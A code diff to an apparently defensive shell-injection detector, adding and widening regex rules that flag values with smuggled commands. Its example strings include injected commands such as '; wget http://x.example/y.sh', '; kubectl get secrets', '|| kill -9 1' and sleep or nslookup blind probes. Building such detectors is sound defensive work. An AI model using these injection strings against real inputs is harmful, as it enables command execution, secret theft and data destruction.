@@ -40,6 +40,12 @@ export const detector: Detector = {
       counterExamples: ["read; write", "Find & sort", "start; stop"],
     },
     {
+      id: "separated-late", why: "A separator of commands behind a few words is followed by a command with the arguments of one, and the value ends with it.", over: "shell", score: 5,
+      pattern: /^w(?:[we]{3,15})[;|AB(S`][ob]*(?:[WC][fPpuivd]|c[fP])(?:w{0,2}[^Nwe]){0,16}w{0,2}$/,
+      examples: ["my file name here; wget http://x.example/y.sh"],
+      counterExamples: ["Use `ls` first"],
+    },
+    {
       id: "separator-first", why: "The value begins with a separator of commands and the name of a command.", over: "shell", score: 5,
       pattern: /^[;|&AB]+[ob]*(?:[WCct](?:$|[^|])|[el](?:$|[fPiGupdv&]|w$)|e[lWCct]$)|^[;|AB]+[el];|^[;AB]+[ob]*(?:l[^N]|e[^N]{0,6}(?:[fPpiuGvH>(`]|wn$))/,
       examples: ["|id", "; ls", "& ping x", "';top'", "|vi (x", "; kubectl get secrets", "|| kill -9 1"],
@@ -209,7 +215,7 @@ export const detector: Detector = {
     },
     {
       id: "timed", why: "A command that waits or calls out stands after a break, as blind probes have it.", over: "text", score: 5,
-      pattern: /(?:^(?:[^\s]+\s+){0,3}[^\s]*[;|&(]|^|\n|^[^\s`]*`|%0a)\s*(?:\/bin\/|\/usr\/bin\/)?(?:sleep\s+\d+|ping\s+-[nci]\s*\d+\s+[\w.]+|timeout\s+(?:\/t\s+)?\d+|nslookup\s+[\w.-]+\.\w+|(?:curl|wget)\s+(?:-\S+\s+)*(?:https?:\/\/|[\w-]+\.)[^\s]+)\s*(?:$|[;|&`#)'"])/i,
+      pattern: /(?:^(?:[^\s]+\s+){0,3}[^\s]*[;|&(]|^|\n|^[^\s`]*`|%0a)\s*(?:\/bin\/|\/usr\/bin\/)?(?:sleep\s+\d+|ping\s+-[nci]\s*\d+\s+[\w.]+|timeout\s+(?:\/t\s+)?\d+|nslookup\s+(?:-\S+\s+)*[\w.-]+\.\w+|getent\s+hosts\s+\S+|(?:curl|wget)\s+(?:-\S+\s+)*(?:https?:\/\/|[\w-]+\.)[^\s]+)\s*(?:$|[;|&`#)'"])/i,
       examples: ["x\nsleep 5", "| /bin/sleep 31 ;", "||ping -c 10 127.0.0.1||", "`nslookup a.example.com`"],
       counterExamples: ["We sleep 8 hours", "time to ping"],
     },
